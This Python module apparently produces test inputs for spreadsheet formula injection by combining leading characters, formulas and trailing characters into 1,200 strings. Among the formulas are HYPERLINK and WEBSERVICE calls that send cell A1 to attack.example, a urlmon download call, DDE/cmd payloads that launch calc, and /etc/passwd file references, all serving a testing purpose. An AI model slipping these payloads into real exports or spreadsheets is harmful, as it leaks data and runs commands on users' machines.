"""Strings that a sheet computes or makes a link of: what may stand before, the formula or address, what may follow."""

from __future__ import annotations

from functools import cache
from itertools import product

COUNT = 1_200
_BEFORE = (
    *(
        "",
        " ",
        "\t",
        "\r",
        "\n",
        "\r\n",
        "\x0b",
        "\x00",
        "\u00a0",
        "\u3000",
        "\u200b",
        "\u2060",
        "\ufeff",
        "\u202e",
    ),
    *(
        "'",
        "''",
        '"',
        "x;",
        "x; ",
        "x,",
        "x\t",
        "x|",
        "x\n",
        'x";',
        'x",',
        'x"\n',
        "x;'",
        ";;",
        "x;\u200b",
        "Sở Y tế;",
    ),
)
_FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=SUM(1,1)", "=A1", '="a"&"b"', "{=1+1}", "=-1", "=+1", "-2+3+A1", "+A1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "﹦1+1", "of:=1+1", "=1+1=2", "=\n1+1", "= 1 + 1", "=(1)", "==1"),
    '=HYPERLINK("http://attack.example/?"&A1,"Bấm vào đây")',
    '=WEBSERVICE("http://attack.example/?"&A1)',
    '=IMPORTXML("http://attack.example","//a")',
    '=IMAGE("http://attack.example/a.png")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=RTD(\"x\",,\"y\")",
    "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://attack.example\",\"c:\\a\",0,0)",
    *("http://attack.example/", "https://attack.example/a?b=c", "ftp://attack.example/", "file:///etc/passwd"),
    *("mailto:a@attack.example", "\\\\attack.example\\a", "internal:Sheet1!A1", "external:c:\\a.xlsx", "#Sheet1!A1"),
)  # fmt: skip
_AFTER = ("", " ", ";", '"', "'", "\n", ";=1+1")


@cache
def formulas(count: int = COUNT) -> tuple[str, ...]:
    """`count` different strings, spread over every way to spell them; always the same."""
    every = [f"{before}{formula}{after}" for after, before, formula in product(_AFTER, _BEFORE, _FORMULAS)]
    step = 7919  # prime, so that the walk meets each once
    return tuple(dict.fromkeys(every[(at * step) % len(every)] for at in range(count)))
